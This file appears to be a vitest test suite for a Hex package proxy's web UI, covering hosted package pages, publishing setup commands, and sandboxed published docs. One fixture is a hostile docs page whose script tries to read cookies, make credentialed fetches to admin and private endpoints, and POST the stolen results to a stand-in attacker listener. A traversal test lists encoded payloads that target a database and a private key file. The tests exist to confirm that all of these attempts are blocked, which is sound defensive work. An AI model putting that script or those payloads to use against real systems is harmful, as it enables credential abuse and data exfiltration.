// The web UI and hosted repositories: hosted packages listed and marked as hosted, a hosted
// package's page (publisher, publication time, retirements, docs), Set me up's publishing
// commands for a token that may write, and published docs served as pages below a ticket
// with a sandbox policy. In Chromium (playwright-core): the docs render with their scripts
// and styles, and a script in published docs cannot read the UI or the admin API with the
// signed-in user's credentials, nor send anything elsewhere.
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TokenStore } from '../../src/auth/token-store.js';
import { hexApiUrl, mixPublish, publishEnvironment, rebar3Publish } from '../../src/clients/snippets.js';
import type { HostedStore } from '../../src/hosted/hosted-store.js';
import { projectRoot } from '../../src/paths.js';
import { DOCS_CONTENT_SECURITY_POLICY } from '../../src/ui/handlers/docs.js';
import { findBrowser, requireBrowser } from '../support/browser.js';
import { startFakeUpstream, type FakeUpstream } from '../support/upstreams/fake-upstream.js';
import { docsTarball, publishHosted } from '../support/hosted-publish.js';
import { startOtherOrigin, type OtherOrigin } from '../support/other-origin.js';
import { startProxy, type HttpResult, type TestProxy } from '../support/proxy.js';

let upstream: FakeUpstream;
let proxy: TestProxy;
let listener: OtherOrigin;
let store: HostedStore;
const secrets = { reader: '', writer: '', publicOnly: '', admin: '', revoked: '' };

const basic = (token: string): string => `Basic ${Buffer.from(`me:${token}`).toString('base64')}`;
const as = (who: keyof typeof secrets): Record<string, string> => ({ authorization: basic(secrets[who]) });

async function page(path: string, headers?: Record<string, string>): Promise<HttpResult & { text: string }> {
  const result = await proxy.get(path, headers);
  return { ...result, text: result.body.toString('utf8') };
}

const INDEX_HTML = `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>acme_core docs</title>
<link rel="stylesheet" href="dist/app.css"><script src="dist/app.js"></script></head>
<body><h1 id="title">acme_core 1.0.0</h1><p id="script-state">the script did not run</p>
<a id="guides" href="guides/">Guides</a> <a id="hostile" href="hostile.html">Hostile</a></body></html>
`;
const APP_JS = `document.addEventListener('DOMContentLoaded', () => {
  document.getElementById('script-state').textContent = 'the script ran, origin ' + self.origin;
});
`;
const APP_CSS = 'h1 { color: rgb(1, 2, 3); }\n';
const GUIDE_HTML =
  '<!DOCTYPE html><html><head><link rel="stylesheet" href="../dist/app.css"></head><body><h1 id="guide">Getting started</h1></body></html>\n';

/** What a hostile publisher puts in docs: everything a script might try with the reader's credentials, results written into the page. */
function hostileHtml(report: string): string {
  return `<!DOCTYPE html><html><head><meta charset="utf-8"></head><body><pre id="result"></pre><script>
(async () => {
  const results = { origin: self.origin };
  const attempt = async (name, what) => {
    try { results[name] = await what(); } catch (error) { results[name] = 'refused: ' + (error && error.name); }
  };
  const read = async (response) => response.status + ' ' + (await response.text()).slice(0, 60);
  await attempt('cookie', () => document.cookie);
  await attempt('localStorage', () => String(localStorage.length));
  await attempt('uiStatus', async () => read(await fetch('/ui/status')));
  await attempt('uiStatusWithCredentials', async () => read(await fetch('/ui/status', { credentials: 'include' })));
  await attempt('privatePackagePage', async () => read(await fetch('/ui/repos/acme/packages/acme_util', { credentials: 'include' })));
  await attempt('adminStats', async () => read(await fetch('/api/admin/stats', { credentials: 'include' })));
  await attempt('otherDocs', async () => read(await fetch('/ui/docs/acme/acme_util/0.1.0/', { credentials: 'include' })));
  await attempt('tarball', async () => read(await fetch('/repos/acme/tarballs/acme_util-0.1.0.tar', { credentials: 'include' })));
  await attempt('evict', async () => {
    const response = await fetch('/api/admin/evict', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: '{"name":"jason","version":"1.4.1"}' });
    return response.type;
  });
  await attempt('exfiltrate', async () => (await fetch(${JSON.stringify(report)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(results) })).type);
  document.getElementById('result').textContent = JSON.stringify(results);
})();
</script></body></html>
`;
}

beforeAll(async () => {
  upstream = await startFakeUpstream({ packages: [{ name: 'jason', releases: [{ version: '1.4.1' }] }] });
  listener = await startOtherOrigin();
  proxy = await startProxy({ upstreamUrl: upstream.url, upstreamPublicKeyPem: upstream.publicKeyPem, config: { hosted: { acme: {} } } });
  const hosted = proxy.server.hexproxy.hosted;
  if (!hosted) throw new Error('hexproxy opened no hosted store');
  store = hosted;
  await publishHosted(store, 'acme', {
    name: 'acme_core',
    version: '1.0.0',
    description: 'The core of acme',
    dependencies: [{ package: 'jason', requirement: '~> 1.4' }],
  });
  await publishHosted(store, 'acme', { name: 'acme_core', version: '1.1.0', description: 'The core of acme' });
  await store.retire('acme', 'acme_core', '1.1.0', { reason: 'security', message: 'leaks secrets, use 1.0.0' });
  await publishHosted(
    store,
    'acme',
    {
      name: 'acme_util',
      version: '0.1.0',
      description: 'Utilities',
      dependencies: [{ package: 'acme_core', requirement: '~> 1.0', repository: 'acme' }],
    },
    'release-bot',
  );
  await store.putDocs(
    'acme',
    'acme_core',
    '1.0.0',
    await docsTarball({
      'index.html': INDEX_HTML,
      'dist/app.js': APP_JS,
      'dist/app.css': APP_CSS,
      'guides/index.html': GUIDE_HTML,
      'hostile.html': hostileHtml(`${listener.url}/report`),
    }),
  );
  await store.putDocs('acme', 'acme_util', '0.1.0', await docsTarball({ 'index.html': '<h1>acme_util</h1>' }));
  const tokens = new TokenStore(proxy.server.hexproxy.config.auth.tokensFile);
  secrets.reader = tokens.create('acme-reader', ['hexpm', 'acme'], false).secret;
  secrets.writer = tokens.create('ci-publish', ['hexpm'], false, { write: ['acme'] }).secret;
  secrets.publicOnly = tokens.create('public-reader', ['hexpm'], false).secret;
  secrets.admin = tokens.create('ops', ['hexpm', 'acme'], true).secret;
  secrets.revoked = tokens.create('short-lived', ['hexpm', 'acme'], false).secret;
  // The victim of the hostile docs' evict.
  expect((await proxy.get('/tarballs/jason-1.4.1.tar')).status).toBe(200);
});

afterAll(async () => {
  await proxy?.close();
  await listener?.close();
  await upstream?.close();
});

describe('hosted packages in the web UI', () => {
  it('are listed, marked as hosted, to viewers that may read the repository, and found by a search', async () => {
    const packages = await page('/ui/packages', as('reader'));
    expect(packages.status).toBe(200);
    expect(packages.text).toContain('id="hosted-packages"');
    expect(packages.text).toMatch(/data-package="acme_core" data-repo="acme" data-hosted="yes"/);
    expect(packages.text).toMatch(/data-package="acme_util" data-repo="acme" data-hosted="yes"/);
    expect(packages.text).toContain('hosted: acme');
    expect(packages.text).toContain('href="/ui/repos/acme/packages/acme_core"');
    // Latest: the newest release, retired or not, as hex.pm says.
    expect(packages.text).toMatch(/data-package="acme_core"[\s\S]*?<td class="nowrap">1\.1\.0<\/td>/);
    const search = await page('/ui/packages?q=util', as('reader'));
    expect(search.text).toContain('data-package="acme_util"');
    expect(search.text).not.toContain('data-package="acme_core"');
    for (const who of ['publicOnly'] as const) {
      const hidden = await page('/ui/packages', as(who));
      expect(hidden.status).toBe(200);
      expect(hidden.text).not.toContain('acme_core');
      expect(hidden.text).not.toContain('id="hosted"');
    }
  });

  it("have a page with each release's publisher, publication time, retirement and docs link, and the dependencies", async () => {
    const core = await page('/ui/repos/acme/packages/acme_core', as('reader'));
    expect(core.status).toBe(200);
    const published = store.release('acme', 'acme_core', '1.0.0')?.publishedAt ?? 0;
    expect(core.text).toContain('hosted: acme');
    expect(core.text).toContain('The core of acme');
    const rowOf = (version: string): string =>
      new RegExp(`<tr[^>]*data-version="${version.replace(/\./g, '\\.')}"[\\s\\S]*?</tr>`).exec(core.text)?.[0] ?? '';
    const first = rowOf('1.0.0');
    expect(first).toContain('data-docs="yes"');
    expect(first).toContain('<code>ci-publish</code>');
    expect(first).toContain(`datetime="${new Date(published).toISOString()}"`);
    expect(first).toContain('href="/ui/docs/acme/acme_core/1.0.0/"');
    const retired = rowOf('1.1.0');
    expect(retired).toContain('data-retired="yes"');
    expect(retired).toContain('retired: security');
    expect(retired).toContain('leaks secrets, use 1.0.0');
    expect(retired).toContain('data-docs="no"');
    expect(retired).not.toContain('/ui/docs/');
    // Offered by default: the newest release not retired, with its dependency on hex.pm's jason linked.
    expect(core.text).toContain('{:acme_core, &quot;~&gt; 1.0&quot;, organization: &quot;acme&quot;}');
    expect(core.text).toMatch(/data-dependency="jason"[\s\S]*?href="\/ui\/packages\/jason"/);
    const util = await page('/ui/repos/acme/packages/acme_util', as('reader'));
    expect(util.text).toContain('<code>release-bot</code>');
    expect(util.text).toMatch(/data-dependency="acme_core"[\s\S]*?href="\/ui\/repos\/acme\/packages\/acme_core"/);
    // Only to readers of acme.
    expect((await page('/ui/repos/acme/packages/acme_core')).status).toBe(401);
    expect((await page('/ui/repos/acme/packages/acme_core', as('publicOnly'))).status).toBe(403);
    expect((await page('/ui/repos/acme/packages/nothing_here', as('reader'))).status).toBe(404);
    expect((await page('/ui/repos/acme/packages/acme_core?version=9.9.9', as('reader'))).status).toBe(404);
  });

  it('Set me up shows HEX_API_URL and the publishing commands to a token that may write, and what it takes to others', async () => {
    const writer = await page('/ui/setup', as('writer'));
    const base = new URL(proxy.url).origin;
    expect(writer.text).toContain(`<code id="hex-api-url">${hexApiUrl(base)}</code>`);
    const escape = (text: string): string => text.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
    expect(writer.text).toContain(escape(publishEnvironment(base)));
    expect(writer.text).toContain(mixPublish('acme'));
    expect(writer.text).toContain(rebar3Publish('hexpm', 'acme'));
    expect(mixPublish('acme')).toBe('mix hex.publish --organization acme');
    expect(rebar3Publish('hexpm', 'acme')).toBe('rebar3 hex publish -r hexpm:acme');
    const reader = await page('/ui/setup', as('reader'));
    expect(reader.text).toContain('id="publish-needs-write"');
    expect(reader.text).not.toContain('mix hex.publish');
    expect((await page('/ui/setup', as('publicOnly'))).text).not.toContain('id="publish"');
  });
});

describe('published docs as pages', () => {
  /** The ticketed URL the docs page of `path` opens at, for `who`. */
  async function open(who: keyof typeof secrets, path = ''): Promise<string> {
    const entry = await page(`/ui/docs/acme/acme_core/1.0.0/${path}`, as(who));
    expect(entry.status, entry.text).toBe(302);
    expect(entry.headers['cache-control']).toBe('no-store');
    const location = entry.headers['location'] ?? '';
    expect(location).toMatch(
      new RegExp(`^/ui/docs/~${who === 'reader' ? 'acme-reader' : '[^~]+'}~[0-9a-z]+~[A-Za-z0-9_-]{43}/acme/acme_core/1\\.0\\.0/`),
    );
    return location;
  }

  it('are opened with a token that may read the repository, then served below a ticket without credentials', async () => {
    const location = await open('reader');
    expect(location.endsWith('/acme/acme_core/1.0.0/')).toBe(true);
    const index = await page(location);
    expect(index.status).toBe(200);
    expect(index.text).toBe(INDEX_HTML);
    expect(index.headers['content-type']).toBe('text/html; charset=utf-8');
    expect(index.headers['content-security-policy']).toBe(DOCS_CONTENT_SECURITY_POLICY);
    expect(DOCS_CONTENT_SECURITY_POLICY).toMatch(/^sandbox allow-scripts /);
    expect(DOCS_CONTENT_SECURITY_POLICY).not.toContain('allow-same-origin');
    expect(index.headers['x-content-type-options']).toBe('nosniff');
    expect(index.headers['referrer-policy']).toBe('no-referrer');
    expect(index.headers['cache-control']).toMatch(/^private\b/);
    for (const header of ['set-cookie', 'www-authenticate', 'authorization']) expect(index.headers[header]).toBeUndefined();
    const base = location.slice(0, -1);
    const js = await page(`${base}/dist/app.js`);
    expect([js.status, js.headers['content-type'], js.text]).toEqual([200, 'text/javascript; charset=utf-8', APP_JS]);
    expect((await page(`${base}/dist/app.css`)).headers['content-type']).toBe('text/css; charset=utf-8');
    // A directory without its slash: on to it, so relative links resolve inside it.
    const guides = await page(`${base}/guides`);
    expect([guides.status, guides.headers['location']]).toEqual([302, `${base}/guides/`]);
    expect((await page(`${base}/guides/`)).text).toBe(GUIDE_HTML);
    // Deep links open below a ticket too, query kept.
    expect(await open('reader', 'guides/index.html?q=start')).toMatch(/\/guides\/index\.html\?q=start$/);
    expect((await page(`${base}/missing.html`)).status).toBe(404);
    // HEAD: the headers only.
    const head = await proxy.head(`${base}/dist/app.js`);
    expect([head.status, head.headers['content-length'], head.body.length]).toEqual([200, String(Buffer.byteLength(APP_JS)), 0]);
  });

  it('are refused to whoever may not read the repository, for releases without docs, and to pages of other sites loading them', async () => {
    expect((await page('/ui/docs/acme/acme_core/1.0.0/')).status).toBe(401);
    expect((await page('/ui/docs/acme/acme_core/1.0.0/', as('publicOnly'))).status).toBe(403);
    expect((await page('/ui/docs/acme/acme_core/1.1.0/', as('reader'))).status).toBe(404);
    expect((await page('/ui/docs/acme/acme_core/9.0.0/', as('reader'))).status).toBe(404);
    expect((await page('/ui/docs/hexpm/jason/1.4.1/', as('reader'))).status).toBe(404);
    // A script or style of another page following the redirect with the viewer's credentials.
    const loaded = await page('/ui/docs/acme/acme_core/1.0.0/dist/app.js', {
      ...as('reader'),
      'sec-fetch-mode': 'no-cors',
      'sec-fetch-site': 'cross-site',
    });
    expect(loaded.status).toBe(403);
    expect(loaded.headers['location']).toBeUndefined();
  });

  it('open only the docs of their release, for as long as their token may read the repository', async () => {
    const location = await open('revoked');
    expect((await page(location)).status).toBe(200);
    // Another release's docs with this ticket: back to signing in (a page) or refused (what a page loads).
    const other = location.replace('/acme_core/1.0.0/', '/acme_util/0.1.0/');
    const navigation = await page(other);
    expect([navigation.status, navigation.headers['location']]).toEqual([302, '/ui/docs/acme/acme_util/0.1.0/']);
    expect((await page(other, { 'sec-fetch-mode': 'no-cors' })).status).toBe(403);
    // A forged ticket.
    expect((await page(location.replace(/~[A-Za-z0-9_-]{43}\//, `~${'A'.repeat(43)}/`), { 'sec-fetch-mode': 'no-cors' })).status).toBe(403);
    new TokenStore(proxy.server.hexproxy.config.auth.tokensFile).revoke('short-lived');
    expect((await page(`${location}dist/app.js`, { 'sec-fetch-mode': 'no-cors' })).status).toBe(403);
  });

  it('never reach a file outside the docs: encoded separators and NUL are refused, dot segments resolve inside the URL', async () => {
    const base = (await open('reader')).slice(0, -1);
    for (const path of ['..%2f..%2fhosted.db', 'dist%2fapp.js', 'dist%5capp.js', '%00', '%2e%2e/%2e%2e/keys/hexproxy_private.pem'])
      expect((await page(`${base}/${path}`)).status, path).toBe(400);
    // The URL's own dot segments are resolved before routing (WHATWG URL): this is index.html.
    expect((await page(`${base}/dist/%2e%2e/index.html`)).text).toBe(INDEX_HTML);
  });

  it('are what mix hex.docs fetch gets over the read protocol, byte for byte', async () => {
    const docs = await proxy.get('/repos/acme/docs/acme_core-1.0.0.tar.gz', { authorization: secrets.reader });
    expect(docs.status).toBe(200);
    const file = store.docsFile('acme', 'acme_core', '1.0.0');
    const stored = file && (await store.read(file));
    expect(stored && docs.body.equals(stored)).toBe(true);
    expect(docs.headers['content-disposition']).toBe('attachment');
    expect((await proxy.get('/repos/acme/docs/acme_core-1.0.0.tar.gz')).status).toBe(401);
  });
});

const browser = await findBrowser();
const screenshots = join(projectRoot, 'docs', 'screenshots');

describe('docs pages in a real browser (chromium)', () => {
  it.runIf(requireBrowser && !browser.available)('chromium and playwright-core are installed (CI=true: .ci/run installs chromium)', () => {
    expect.fail(browser.available ? '' : browser.reason);
  });

  it.skipIf(!browser.available)(
    'render with their scripts and styles, linked from the package page; a script in them reads nothing with the signed-in credentials',
    async () => {
      if (!browser.available) return;
      const chromium = await browser.launch();
      try {
        const context = await chromium.newContext({ viewport: { width: 1280, height: 900 } });
        const tab = await context.newPage();
        const host = new URL(proxy.url).host;
        // An admin signs in: the browser keeps the basic-auth credentials for hexproxy.
        await tab.goto(`http://admin:${secrets.admin}@${host}/ui/login`);
        expect(new URL(tab.url()).pathname).toBe('/ui/packages');
        expect((await tab.goto(`${proxy.url}/api/admin/stats`))?.status()).toBe(200);

        await tab.goto(`${proxy.url}/ui/repos/acme/packages/acme_core`);
        expect(await tab.textContent('#package-name')).toBe('acme_core');
        mkdirSync(screenshots, { recursive: true });
        await tab.screenshot({ path: join(screenshots, 'hosted-package.png'), fullPage: true });

        await Promise.all([tab.waitForURL(/\/ui\/docs\/~/), tab.click('tr[data-version="1.0.0"] a.docs-link')]);
        expect(new URL(tab.url()).pathname).toMatch(/^\/ui\/docs\/~ops~[0-9a-z]+~[A-Za-z0-9_-]{43}\/acme\/acme_core\/1\.0\.0\/$/);
        expect(await tab.textContent('#title')).toBe('acme_core 1.0.0');
        // Its script ran, in an opaque origin; its style sheet applied.
        await tab.waitForFunction(() => document.getElementById('script-state')?.textContent?.startsWith('the script ran'));
        expect(await tab.textContent('#script-state')).toBe('the script ran, origin null');
        expect(await tab.$eval('#title', (element) => getComputedStyle(element).color)).toBe('rgb(1, 2, 3)');
        // Relative links stay below the ticket.
        await Promise.all([tab.waitForURL(/\/guides\/$/), tab.click('#guides')]);
        expect(await tab.textContent('#guide')).toBe('Getting started');
        expect(await tab.$eval('#guide', (element) => getComputedStyle(element).color)).toBe('rgb(1, 2, 3)');
        await tab.goBack();

        const adminBefore = proxy.logs.filter((line) => line.msg === 'request' && String(line['path']).startsWith('/api/admin/')).length;
        await Promise.all([tab.waitForURL(/\/hostile\.html$/), tab.click('#hostile')]);
        await tab.waitForFunction(() => (document.getElementById('result')?.textContent ?? '') !== '');
        const results = JSON.parse((await tab.textContent('#result')) ?? '{}') as Record<string, string>;
        expect(results).toEqual({
          origin: 'null',
          cookie: 'refused: SecurityError',
          localStorage: 'refused: SecurityError',
          uiStatus: 'refused: TypeError',
          uiStatusWithCredentials: 'refused: TypeError',
          privatePackagePage: 'refused: TypeError',
          adminStats: 'refused: TypeError',
          otherDocs: 'refused: TypeError',
          tarball: 'refused: TypeError',
          evict: 'opaque',
          exfiltrate: 'refused: TypeError',
        });
        await tab.waitForLoadState('networkidle');
        // Nothing reached the attacker, and the admin API did nothing for the script.
        expect(listener.received).toEqual([]);
        const adminRequests = proxy.logs
          .filter((line) => line.msg === 'request' && String(line['path']).startsWith('/api/admin/'))
          .slice(adminBefore);
        expect(adminRequests.map((line) => line['status'])).not.toContain(200);
        expect(adminRequests.filter((line) => line['method'] === 'POST').map((line) => line['status'])).toEqual([403]);
        expect(proxy.server.hexproxy.index.findTarball('hexpm', 'jason', '1.4.1')).toBeDefined();

        await context.close();
      } finally {
        await chromium.close();
      }
    },
    90_000,
  );
});
